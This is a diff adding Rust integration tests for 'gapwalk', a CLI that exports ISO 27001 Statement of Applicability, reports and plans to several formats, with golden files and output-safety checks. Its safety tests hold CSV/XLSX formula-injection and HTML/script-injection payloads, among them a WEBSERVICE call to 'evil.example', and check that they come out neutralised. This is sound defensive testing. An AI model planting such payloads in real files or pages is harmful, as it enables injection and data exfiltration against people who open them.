@@ -1,0 +1,575 @@
+//! The exports as a consultant or a CI job makes them: golden files of the
+//! example assessment, the XLSX read back, and what an assessment full of
+//! markup and formulas turns into.
+
+use std::path::{Path, PathBuf};
+
+use assert_cmd::Command;
+use calamine::{Data, Reader, Xlsx, open_workbook};
+
+const AS_OF: &str = "2026-11-28";
+
+fn gapwalk() -> Command {
+    Command::cargo_bin("gapwalk").expect("binary")
+}
+
+fn root() -> &'static Path {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn example() -> PathBuf {
+    root().join("assessments/example.toml")
+}
+
+fn hostile() -> PathBuf {
+    root().join("tests/fixtures/valid/hostile.toml")
+}
+
+/// Runs a command that must succeed; returns stdout and stderr.
+fn run(args: &[&str], file: &Path) -> (String, String) {
+    let out = gapwalk()
+        .arg(args[0])
+        .arg(file)
+        .args(&args[1..])
+        .args(["--as-of", AS_OF])
+        .output()
+        .expect("run");
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(out.status.success(), "{args:?}: {stderr}");
+    (String::from_utf8(out.stdout).expect("utf-8"), stderr)
+}
+
+/// CSV and ICS end lines in CRLF (checked by `parse_csv` and the ICS
+/// tests); the snapshots show them with plain line ends, and without the
+/// CSV's byte order mark.
+fn crlf_to_lf(s: &str) -> String {
+    s.trim_start_matches('\u{feff}').replace("\r\n", "\n")
+}
+
+// --- Golden files ----------------------------------------------------------
+
+#[test]
+fn soa_markdown_golden() {
+    let (md, _) = run(&["soa", "--format", "markdown"], &example());
+    insta::assert_snapshot!("soa_markdown", md);
+}
+
+#[test]
+fn soa_csv_golden_internal_and_public() {
+    let (csv, _) = run(&["soa", "--format", "csv"], &example());
+    assert!(csv.starts_with('\u{feff}'), "UTF-8 byte order mark");
+    parse_csv(&csv);
+    insta::assert_snapshot!("soa_csv", crlf_to_lf(&csv));
+    let (public, _) = run(
+        &["soa", "--format", "csv", "--audience", "public"],
+        &example(),
+    );
+    insta::assert_snapshot!("soa_csv_public", crlf_to_lf(&public));
+}
+
+#[test]
+fn report_markdown_golden() {
+    let (md, _) = run(&["report", "--format", "markdown"], &example());
+    insta::assert_snapshot!("report_markdown", md);
+}
+
+#[test]
+fn report_html_golden() {
+    let (html, _) = run(&["report", "--format", "html"], &example());
+    insta::assert_snapshot!("report_html", html);
+}
+
+#[test]
+fn report_json_golden() {
+    let (json, _) = run(&["report", "--format", "json"], &example());
+    insta::assert_snapshot!("report_json", json);
+}
+
+#[test]
+fn plan_golden_markdown_csv_ics() {
+    let (md, _) = run(&["plan", "--format", "markdown"], &example());
+    insta::assert_snapshot!("plan_markdown", md);
+    let (csv, _) = run(&["plan", "--format", "csv"], &example());
+    insta::assert_snapshot!("plan_csv", crlf_to_lf(&csv));
+    let (ics, stderr) = run(&["plan", "--format", "ics"], &example());
+    insta::assert_snapshot!("plan_ics", crlf_to_lf(&ics));
+    assert!(
+        stderr.contains("3 plan entries have no due date"),
+        "{stderr}"
+    );
+}
+
+// --- Behaviour ---------------------------------------------------------------
+
+#[test]
+fn soa_has_every_annex_a_control_and_lints_on_stderr() {
+    let (csv, stderr) = run(&["soa", "--format", "csv"], &example());
+    let rows = parse_csv(&csv);
+    assert_eq!(rows.len(), 94, "header and 93 controls");
+    assert_eq!(rows[1][0], "A.5.1");
+    assert_eq!(rows[93][0], "A.8.34");
+    // "Microsoft provides" is included and implemented through the provider.
+    let a712 = rows.iter().find(|r| r[0] == "A.7.12").expect("A.7.12");
+    assert_eq!(
+        (a712[3].as_str(), a712[6].as_str(), a712[7].as_str()),
+        ("Yes", "Implemented", "Microsoft provides")
+    );
+    assert!(a712[9].contains("SOC 2"), "{a712:?}");
+    let a63 = rows.iter().find(|r| r[0] == "A.6.3").expect("A.6.3");
+    assert_eq!(a63[6], "Partially implemented");
+    for needle in [
+        "Annex A controls are neither included nor excluded",
+        "Annex A controls are included without a reason",
+        "A.8.30 is excluded with no justification.",
+        "A.8.31 is excluded with the stock phrase \"Not applicable.\"",
+        "A.5.15: the newest evidence is from 2025-06-10",
+    ] {
+        assert!(stderr.contains(needle), "missing {needle:?} in\n{stderr}");
+    }
+    assert!(stderr.lines().all(|l| l.starts_with("gapwalk: warning: ")));
+}
+
+#[test]
+fn public_soa_leaves_out_internal_columns() {
+    let (internal, _) = run(&["soa", "--format", "csv"], &example());
+    let (public, _) = run(
+        &["soa", "--format", "csv", "--audience", "public"],
+        &example(),
+    );
+    let header = |csv: &str| parse_csv(csv).remove(0);
+    let (internal, public) = (header(&internal), header(&public));
+    for column in ["Owner", "Evidence location", "Notes"] {
+        assert!(internal.iter().any(|h| h == column), "{column}");
+        assert!(!public.iter().any(|h| h == column), "{column}");
+    }
+    assert!(public.iter().any(|h| h == "Evidence"));
+    let (md, _) = run(
+        &["soa", "--format", "markdown", "--audience", "public"],
+        &example(),
+    );
+    assert!(
+        !md.contains("Priya Shah"),
+        "owners leak into the public SoA"
+    );
+    assert!(
+        !md.contains("SharePoint"),
+        "locations leak into the public SoA"
+    );
+}
+
+#[test]
+fn soa_version_label_is_used() {
+    let (md, _) = run(
+        &["soa", "--version-label", "1.2 (approved by the board)"],
+        &example(),
+    );
+    assert!(
+        md.contains("| **Document version** | 1.2 (approved by the board) |"),
+        "{md}"
+    );
+}
+
+fn cell_text(d: &Data) -> String {
+    match d {
+        Data::String(s) => s.clone(),
+        Data::Empty => String::new(),
+        other => other.to_string(),
+    }
+}
+
+fn read_xlsx(path: &Path) -> (Vec<String>, Vec<Vec<String>>, Vec<Vec<String>>) {
+    let mut book: Xlsx<_> = open_workbook(path).expect("open workbook");
+    let names = book.sheet_names();
+    let soa = book
+        .worksheet_range("Statement of Applicability")
+        .expect("SoA sheet");
+    let summary = book.worksheet_range("Summary").expect("summary sheet");
+    let rows = |r: calamine::Range<Data>| {
+        r.rows()
+            .map(|row| row.iter().map(cell_text).collect())
+            .collect()
+    };
+    (names, rows(soa), rows(summary))
+}
+
+#[test]
+fn soa_xlsx_reads_back() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("soa.xlsx");
+    let (_, stderr) = run(
+        &[
+            "soa",
+            "--format",
+            "xlsx",
+            "-o",
+            path.to_str().expect("utf-8 path"),
+        ],
+        &example(),
+    );
+    assert!(stderr.contains("gapwalk: wrote "), "{stderr}");
+    let (names, soa, summary) = read_xlsx(&path);
+    assert_eq!(names, ["Statement of Applicability", "Summary"]);
+    assert!(soa[0][0].starts_with("Statement of Applicability: Tailspin Analytics Ltd"));
+    assert!(
+        soa[2][0].contains("Microsoft 365 Business Premium"),
+        "{:?}",
+        soa[2]
+    );
+    assert!(soa[2][0].contains("As of: 2026-11-28"), "{:?}", soa[2]);
+    let header = &soa[3];
+    assert_eq!(header[0], "Control");
+    assert_eq!(header.len(), 15);
+    assert_eq!(soa.len(), 4 + 93);
+    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let row = |id: &str| soa.iter().find(|r| r[0] == id).expect(id);
+    let a51 = row("A.5.1");
+    assert_eq!(a51[col("Implementation status")], "Implemented");
+    assert_eq!(a51[col("Included because")], "Best practice");
+    assert_eq!(a51[col("Owner")], "Priya Shah (IT Manager)");
+    // A real date cell: Excel's serial day number for 2026-11-17.
+    let serial = (chrono::NaiveDate::from_ymd_opt(2026, 11, 17).expect("date")
+        - chrono::NaiveDate::from_ymd_opt(1899, 12, 30).expect("epoch"))
+    .num_days();
+    assert_eq!(a51[col("Last reviewed")], serial.to_string(), "{a51:?}");
+    let a85 = row("A.8.5");
+    assert_eq!(a85[col("Included because")], "Contractual\nRisk assessment");
+    assert!(a85[col("Justification (inclusion or exclusion)")].contains("MFA"));
+    assert_eq!(
+        row("A.8.13")[col("Implementation status")],
+        "Not implemented"
+    );
+    assert_eq!(row("A.8.31")[col("Applicable")], "No");
+    assert_eq!(row("A.5.3")[col("Applicable")], "Undecided");
+
+    let count = |label: &str| {
+        summary
+            .iter()
+            .find(|r| r[0] == label)
+            .map(|r| r[1].clone())
+            .unwrap_or_else(|| panic!("{label} in {summary:?}"))
+    };
+    assert_eq!(count("Implemented"), "21");
+    assert_eq!(count("Not yet assessed"), "65");
+    assert_eq!(count("All Annex A controls"), "93");
+
+    // Public: the internal columns are gone.
+    let public = dir.path().join("public.xlsx");
+    run(
+        &[
+            "soa",
+            "--format",
+            "xlsx",
+            "--audience",
+            "public",
+            "-o",
+            public.to_str().expect("utf-8 path"),
+        ],
+        &example(),
+    );
+    let (_, soa, _) = read_xlsx(&public);
+    assert_eq!(soa[3].len(), 12);
+    assert!(!soa[3].iter().any(|h| h == "Owner"));
+}
+
+// --- Safety ------------------------------------------------------------------
+
+/// A small RFC 4180 reader, to check fields as a spreadsheet sees them.
+fn parse_csv(s: &str) -> Vec<Vec<String>> {
+    let s = s.trim_start_matches('\u{feff}');
+    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
+    let mut chars = s.chars().peekable();
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => field.push(c),
+            (false, '"') if field.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut field)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {
+                chars.next();
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, '\n') => panic!("a record ends in LF, not CRLF"),
+            (false, c) => field.push(c),
+        }
+    }
+    assert!(!quoted, "unterminated quoted field");
+    assert!(field.is_empty() && row.is_empty(), "no final CRLF");
+    rows
+}
+
+fn is_formula(s: &str) -> bool {
+    s.trim_start().starts_with(['=', '+', '-', '@']) || s.starts_with(['\t', '\r'])
+}
+
+#[test]
+fn csv_neutralises_formulas_and_keeps_the_text() {
+    let (soa, _) = run(&["soa", "--format", "csv"], &hostile());
+    let (plan, _) = run(&["plan", "--format", "csv"], &hostile());
+    for csv in [&soa, &plan] {
+        let rows = parse_csv(csv);
+        let width = rows[0].len();
+        for row in &rows {
+            assert_eq!(row.len(), width, "{row:?}");
+            for field in row {
+                assert!(!is_formula(field), "formula in CSV: {field:?}");
+                assert!(
+                    !field.chars().any(|c| c.is_control() && c != '\n'),
+                    "control character in {field:?}"
+                );
+            }
+        }
+    }
+    let rows = parse_csv(&soa);
+    let a51 = rows.iter().find(|r| r[0] == "A.5.1").expect("A.5.1");
+    assert!(
+        a51.contains(&"'@SUM(1+1) <i>owner</i>".to_string()),
+        "{a51:?}"
+    );
+    assert!(
+        a51.iter().any(|f| f.starts_with("'=1+1 \"just\"")),
+        "{a51:?}"
+    );
+    let plan_rows = parse_csv(&plan);
+    assert!(
+        plan_rows.iter().any(|r| r
+            .iter()
+            .any(|f| f == "'=WEBSERVICE(\"http://evil.example\"), with; commas \\ and\nnew lines")),
+        "{plan_rows:?}"
+    );
+}
+
+#[test]
+fn xlsx_neutralises_formulas() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("hostile.xlsx");
+    run(
+        &[
+            "soa",
+            "--format",
+            "xlsx",
+            "-o",
+            path.to_str().expect("utf-8 path"),
+        ],
+        &hostile(),
+    );
+    let mut book: Xlsx<_> = open_workbook(&path).expect("open");
+    for sheet in book.sheet_names() {
+        let formulas = book.worksheet_formula(&sheet).expect("formulas");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{sheet} has formulas"
+        );
+        let range = book.worksheet_range(&sheet).expect("range");
+        for (_, _, cell) in range.used_cells() {
+            if let Data::String(s) = cell {
+                assert!(!is_formula(s), "{sheet}: {s:?}");
+                assert!(!s.chars().any(|c| c.is_control() && c != '\n'), "{s:?}");
+            }
+        }
+    }
+    let (_, soa, _) = read_xlsx(&path);
+    let a51 = soa.iter().find(|r| r[0] == "A.5.1").expect("A.5.1");
+    assert!(
+        a51.iter().any(|c| c == "'@SUM(1+1) <i>owner</i>"),
+        "{a51:?}"
+    );
+    assert!(
+        a51.iter().any(|c| c.starts_with("'+cmd <a href")),
+        "{a51:?}"
+    );
+}
+
+#[test]
+fn html_escapes_every_field() {
+    let (html, _) = run(&["report", "--format", "html"], &hostile());
+    for raw in [
+        "<script",
+        "</script",
+        "<img",
+        "<b>bold",
+        "<i>owner",
+        "<a href=\"javascript",
+        "</li><script",
+        "'org'",
+        "\"Quoted\"",
+    ] {
+        assert!(!html.contains(raw), "unescaped {raw:?} in the HTML");
+    }
+    for escaped in [
+        "&lt;script&gt;alert(&#39;org&#39;)&lt;/script&gt; &amp; &quot;Quoted&quot; Ltd",
+        "&lt;img src=x onerror=alert(1)&gt; &#39;scope&#39; &quot;here&quot;",
+        "&lt;script&gt;alert(&#39;notes&#39;)&lt;/script&gt;",
+        "&lt;/li&gt;&lt;script&gt;alert(&#39;follow-up&#39;)&lt;/script&gt;",
+        "-2+3 &lt;b&gt;bold&lt;/b&gt;",
+        "@SUM(1+1) &lt;i&gt;owner&lt;/i&gt;",
+        "+cmd &lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;",
+        "=1+1 &quot;just&quot; &#39;ified&#39;",
+        "&lt;script&gt;x&lt;/script&gt;",
+    ] {
+        assert!(html.contains(escaped), "missing {escaped:?}");
+    }
+    assert!(
+        !html
+            .chars()
+            .any(|c| c.is_control() && c != '\n' && c != '\t'),
+        "control characters in the HTML"
+    );
+    // Self-contained: nothing loaded from anywhere, no script at all.
+    for banned in ["<script", "src=\"http", "href=\"http", "@import", "url("] {
+        assert!(!html.contains(banned), "{banned}");
+    }
+    assert!(html.contains("Content-Security-Policy"));
+}
+
+#[test]
+fn markdown_escapes_every_field() {
+    for args in [
+        ["report", "--format", "markdown"],
+        ["soa", "--format", "markdown"],
+        ["plan", "--format", "markdown"],
+    ] {
+        let (md, _) = run(&args, &hostile());
+        // `\<` shows a literal `<`: only an unescaped one could be markup.
+        let unescaped = md.replace("\\<", "");
+        assert!(!unescaped.contains("<script"), "{args:?}\n{md}");
+        assert!(!unescaped.contains("<b>bold"), "{args:?}");
+        assert!(!unescaped.contains("<i>owner"), "{args:?}");
+        assert!(md.contains("\\<script\\>"), "{args:?}");
+        assert!(!md.contains('\u{1b}') && !md.contains('\u{7}'), "{args:?}");
+    }
+}
+
+#[test]
+fn json_and_text_carry_no_control_characters() {
+    let (json, _) = run(&["report", "--format", "json"], &hostile());
+    let v: serde_json::Value = serde_json::from_str(&json).expect("json");
+    let org = v["organisation"].as_str().expect("organisation");
+    assert!(org.starts_with("<script>alert('org')"), "{org}");
+    assert!(!org.chars().any(char::is_control), "{org:?}");
+    assert!(
+        !json.contains("\\u001b") && !json.contains("\\u0007"),
+        "{json}"
+    );
+    let (text, _) = run(&["report"], &hostile());
+    assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
+}
+
+#[test]
+fn ics_escapes_text_and_folds_lines() {
+    let (ics, _) = run(&["plan", "--format", "ics"], &hostile());
+    assert!(ics.starts_with("BEGIN:VCALENDAR\r\n"));
+    assert!(ics.ends_with("END:VCALENDAR\r\n"));
+    for line in ics.split("\r\n") {
+        assert!(line.len() <= 75, "{} octets: {line}", line.len());
+        assert!(!line.contains('\n') && !line.contains('\r'));
+    }
+    let unfolded = ics.replace("\r\n ", "");
+    assert!(
+        unfolded.contains(
+            "SUMMARY:A.5.2: =WEBSERVICE(\"http://evil.example\")\\, with\\; commas \\\\ and new lines\r\n"
+        ),
+        "{unfolded}"
+    );
+    assert!(unfolded.contains("DTSTART;VALUE=DATE:20270131\r\n"));
+    assert_eq!(unfolded.matches("BEGIN:VEVENT").count(), 1);
+}
+
+// --- Writing files -------------------------------------------------------------
+
+#[test]
+fn output_refuses_to_overwrite_the_assessment() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let file = dir.path().join("a.toml");
+    std::fs::copy(example(), &file).expect("copy");
+    std::fs::create_dir(dir.path().join("sub")).expect("mkdir");
+    let before = std::fs::read(&file).expect("read");
+    let same = [
+        file.clone(),
+        dir.path().join("sub/../a.toml"),
+        dir.path().join(".").join("a.toml"),
+    ];
+    for target in &same {
+        for args in [
+            vec!["soa", "--format", "csv"],
+            vec!["report", "--format", "html"],
+            vec!["plan", "--format", "ics"],
+        ] {
+            let out = gapwalk()
+                .arg(args[0])
+                .arg(&file)
+                .args(&args[1..])
+                .arg("-o")
+                .arg(target)
+                .output()
+                .expect("run");
+            assert_eq!(
+                out.status.code(),
+                Some(2),
+                "{args:?} -o {}",
+                target.display()
+            );
+            let stderr = String::from_utf8_lossy(&out.stderr);
+            assert!(stderr.contains("is the assessment file itself"), "{stderr}");
+            assert!(
+                !stderr.contains("warning"),
+                "refused before linting: {stderr}"
+            );
+            assert_eq!(std::fs::read(&file).expect("read"), before);
+        }
+    }
+    #[cfg(unix)]
+    {
+        let link = dir.path().join("link.toml");
+        std::os::unix::fs::symlink(&file, &link).expect("symlink");
+        let out = gapwalk()
+            .arg("soa")
+            .arg(&file)
+            .arg("-o")
+            .arg(&link)
+            .output()
+            .expect("run");
+        assert_eq!(out.status.code(), Some(2));
+        assert_eq!(std::fs::read(&file).expect("read"), before);
+    }
+}
+
+#[test]
+fn output_writes_the_same_bytes_as_stdout_and_replaces_old_files() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let target = dir.path().join("report.html");
+    std::fs::write(&target, "old").expect("write");
+    run(
+        &[
+            "report",
+            "--format",
+            "html",
+            "-o",
+            target.to_str().expect("utf-8"),
+        ],
+        &example(),
+    );
+    let (stdout, _) = run(&["report", "--format", "html"], &example());
+    assert_eq!(std::fs::read_to_string(&target).expect("read"), stdout);
+    let leftovers = std::fs::read_dir(dir.path()).expect("dir").count();
+    assert_eq!(leftovers, 1, "a temporary file was left behind");
+}
+
+#[test]
+fn output_into_a_missing_folder_is_an_error() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = gapwalk()
+        .arg("plan")
+        .arg(example())
+        .arg("-o")
+        .arg(dir.path().join("no/such/folder/plan.md"))
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("plan.md"));
+}
